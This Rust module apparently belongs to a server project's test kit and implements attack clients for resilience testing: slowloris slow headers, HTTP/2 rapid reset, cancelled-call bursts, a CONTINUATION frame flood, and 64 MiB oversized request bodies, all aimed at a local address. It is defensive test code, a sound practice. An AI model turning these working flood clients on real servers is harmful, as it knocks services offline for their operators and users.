//! Clients that mean no good, as they stand in the advisories: each goes on until it is dropped, and counts what it did.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use bytes::Bytes;
use flotilla_testkit::frames::{self, HELLO};
use http::Request;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

const FROM: [u8; 4] = [127, 0, 0, 2];
/// From one attempt to the next: the attackers share the machine with their victim.
const PAUSE: Duration = Duration::from_millis(50);
/// Frames of an endless header that one connection sends at the most: far beyond what is allowed.
const FLOOD: usize = 300;

/// An attack under way. Dropped, it ends.
pub struct Attack {
    pub deeds: Arc<AtomicUsize>,
    _tasks: JoinSet<()>,
}

/// `count` attackers who each do `deed` over and over.
fn many<F>(count: usize, deed: impl Fn(Arc<AtomicUsize>) -> F) -> Attack
where
    F: Future<Output = ()> + Send + 'static,
{
    let deeds = Arc::new(AtomicUsize::new(0));
    let mut tasks = JoinSet::new();
    for _ in 0..count {
        tasks.spawn(deed(Arc::clone(&deeds)));
    }
    Attack { deeds, _tasks: tasks }
}

/// A connection from an address of the attackers' own.
async fn connect(address: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind((FROM, 0).into())?;
    socket.connect(address).await
}

/// Connections whose headers never end (slowloris): a byte now and then.
pub fn slow_headers(address: SocketAddr) -> Attack {
    many(200, move |deeds| async move {
        loop {
            let Ok(mut stream) = connect(address).await else { return };
            let begun = stream.write_all(b"GET / HTTP/1.1\r\nhost: x\r\nx-slow: ").await;
            deeds.fetch_add(1, Ordering::Relaxed);
            while begun.is_ok() && stream.write_all(b"x").await.is_ok() {
                sleep(Duration::from_millis(200)).await;
            }
        }
    })
}

/// Requests that are taken back at once (HTTP/2 rapid reset), a hundred in a burst.
pub fn rapid_reset(address: SocketAddr) -> Attack {
    many(4, move |deeds| async move {
        loop {
            let Ok(stream) = connect(address).await else { return };
            let _ended = reset_on(stream, address, &deeds).await;
            sleep(PAUSE).await;
        }
    })
}

/// Bursts of requests and resets until the connection is ended.
pub async fn reset_on(stream: TcpStream, address: SocketAddr, deeds: &AtomicUsize) -> Result<(), h2::Error> {
    let (mut client, connection) = h2::client::handshake(stream).await?;
    let mut driver = JoinSet::new();
    driver.spawn(connection);
    loop {
        for _ in 0..100 {
            client = client.ready().await?;
            let request = Request::get(format!("http://{address}/v1/products")).body(()).unwrap();
            // Dropped before its answer, the request is reset.
            let (answer, _) = client.send_request(request, true)?;
            drop(answer);
            deeds.fetch_add(1, Ordering::Relaxed);
        }
        sleep(PAUSE).await;
    }
}

/// Calls that are cancelled in the same write that begins them.
pub fn cancelled_calls(address: SocketAddr, count: u32) -> Vec<u8> {
    let headers = frames::call(address, "/flotilla.inventory.v1.CatalogService/ListProducts");
    let calls = frames::streams(count).flat_map(|id| [frames::begun(id, &headers), frames::cancelled(id)].concat());
    frames::HELLO.iter().copied().chain(calls).collect()
}

/// Headers that go on and on in CONTINUATION frames and never end.
pub fn continuation_flood(address: SocketAddr) -> Attack {
    many(4, move |deeds| async move {
        loop {
            let Ok(stream) = connect(address).await else { return };
            deeds.fetch_add(continue_on(stream, FLOOD).await, Ordering::Relaxed);
            sleep(PAUSE).await;
        }
    })
}

/// Sends CONTINUATION frames until the connection ends or `most` are sent; returns how many it took.
pub async fn continue_on(mut stream: TcpStream, most: usize) -> usize {
    // A header field that is not indexed: x: 100 bytes.
    let field = [&[0, 1, b'x', 100][..], &[b'v'; 100]].concat();
    // Nearly the largest frame that is allowed, of fields that are well-formed.
    let block = field.repeat(150);
    let length = u32::try_from(block.len()).unwrap().to_be_bytes();
    let frame = |kind: u8| [&length[1..], &[kind, 0, 0, 0, 0, 1], &block].concat();
    let (headers, continuation) = (frame(1), frame(9));
    if stream.write_all(&[HELLO, &headers].concat()).await.is_err() {
        return 0;
    }
    let (mut reader, mut writer) = stream.split();
    let mut sent = 0;
    let flood = async {
        while sent < most && writer.write_all(&continuation).await.is_ok() {
            sent += 1;
        }
    };
    let closed = async {
        let mut rest = [0; 1024];
        while reader.read(&mut rest).await.is_ok_and(|read| read > 0) {}
    };
    tokio::select! {
        () = flood => {}
        () = closed => {}
    }
    sent
}

/// Bodies of 64 MiB where one may be sent, by gRPC and by REST.
pub fn oversized_messages(address: SocketAddr) -> Attack {
    many(2, move |deeds| async move {
        let piece = Bytes::from(vec![b' '; 64 * 1024]);
        loop {
            let Ok(mut stream) = connect(address).await else { return };
            let head = "POST /v1/auth:login HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n\
                        content-length: 67108864\r\n\r\n";
            let mut going = stream.write_all(head.as_bytes()).await.is_ok();
            for _ in 0..1024 {
                going = going && matches!(timeout(PAUSE * 20, stream.write_all(&piece)).await, Ok(Ok(())));
            }
            deeds.fetch_add(1, Ordering::Relaxed);
            if let Ok(stream) = connect(address).await {
                let _ended = timeout(PAUSE * 20, send_large(stream, address, &piece)).await;
                deeds.fetch_add(1, Ordering::Relaxed);
            }
            sleep(PAUSE).await;
        }
    })
}

/// A gRPC message of 64 MiB, as far as the other side takes it.
async fn send_large(stream: TcpStream, address: SocketAddr, piece: &Bytes) -> Result<(), h2::Error> {
    let (client, connection) = h2::client::handshake(stream).await?;
    let mut driver = JoinSet::new();
    driver.spawn(connection);
    let mut client = client.ready().await?;
    let request = Request::post(format!("http://{address}/flotilla.identity.v1.AuthService/Login"))
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .body(())
        .unwrap();
    let (answer, mut body) = client.send_request(request, false)?;
    body.send_data(Bytes::from_static(&[0, 4, 0, 0, 0]), false)?;
    for _ in 0..1024 {
        body.reserve_capacity(piece.len());
        while body.capacity() < piece.len() {
            match std::future::poll_fn(|cx| body.poll_capacity(cx)).await {
                Some(capacity) => capacity?,
                None => return answer.await.map(drop),
            };
        }
        body.send_data(piece.clone(), false)?;
    }
    Ok(())
}
